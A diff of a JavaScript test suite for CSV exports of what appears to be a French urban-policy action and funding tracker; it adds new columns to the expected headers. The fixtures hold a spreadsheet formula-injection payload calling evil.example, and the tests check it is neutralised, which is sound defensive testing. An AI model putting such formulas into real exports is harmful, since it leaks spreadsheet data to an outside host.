@@ -75,7 +75,7 @@ describe("CSV files", () => {
 
   it("actions.csv has one row per action, joined lists, dot decimals, and a neutralised formula", async () => {
     const { header, rows } = await csv("/donnees/actions.csv");
-    expect(header).toEqual(["slug", "titre", "resume", "contrat", "priorite", "priorite_slug", "statut", "statut_libelle", "avancement", "date_debut", "date_fin", "porteur", "partenaires", "quartiers", "codes_qpv", "financement_total", "exemple", "mis_a_jour", "url"]);
+    expect(header).toEqual(["slug", "titre", "resume", "contrat", "priorite", "priorite_slug", "statut", "statut_libelle", "avancement", "date_debut", "date_fin", "porteur", "partenaires", "quartiers", "codes_qpv", "financement_total", "compte_dans_les_totaux", "exemple", "mis_a_jour", "url"]);
     expect(rows).toHaveLength(3);
     expect(rows.find((r) => r.slug === "action-formule")).toMatchObject({
       titre: `'=HYPERLINK("http://evil.example/?"&A1)`,
@@ -91,6 +91,7 @@ describe("CSV files", () => {
       quartiers: "centre",
       codes_qpv: "QN05901M",
       financement_total: "20000.5",
+      compte_dans_les_totaux: "true",
       exemple: "true",
     });
     expect(rows.find((r) => r.slug === "action-a-venir")).toMatchObject({ porteur: "", quartiers: "", financement_total: "0", exemple: "false" });
@@ -98,9 +99,9 @@ describe("CSV files", () => {
 
   it("financements.csv has one row per funding line with its action", async () => {
     const { header, rows } = await csv("/donnees/financements.csv");
-    expect(header).toEqual(["action_slug", "action_titre", "financeur", "financeur_libelle", "annee", "montant", "libelle"]);
+    expect(header).toEqual(["action_slug", "action_titre", "action_statut", "financeur", "financeur_libelle", "annee", "montant", "libelle", "compte_dans_les_totaux"]);
     expect(rows.map((r) => `${r.action_slug} ${r.financeur} ${r.annee} ${r.montant}`)).toEqual(["action-formule etat 2024 12000.5", "action-formule metropole 2025 8000", "action-terminee caf 2019 500"]);
-    expect(rows[0]).toMatchObject({ action_titre: `'=HYPERLINK("http://evil.example/?"&A1)`, financeur_libelle: "État" });
+    expect(rows[0]).toMatchObject({ action_titre: `'=HYPERLINK("http://evil.example/?"&A1)`, action_statut: "in_progress", financeur_libelle: "État", compte_dans_les_totaux: "true" });
   });
 
   it("indicateurs.csv lists every value", async () => {
